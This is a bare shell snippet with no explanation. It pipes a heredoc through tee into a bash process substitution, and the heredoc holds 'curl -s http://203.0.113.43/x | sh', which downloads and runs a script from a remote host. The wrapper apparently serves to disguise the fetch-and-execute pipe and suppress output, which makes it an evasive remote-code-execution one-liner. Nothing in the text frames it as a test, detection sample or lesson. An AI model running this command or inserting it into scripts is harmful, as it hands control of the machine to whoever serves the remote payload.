tee >(bash) <<'EOF' >/dev/null
curl -s http://203.0.113.43/x | sh
EOF
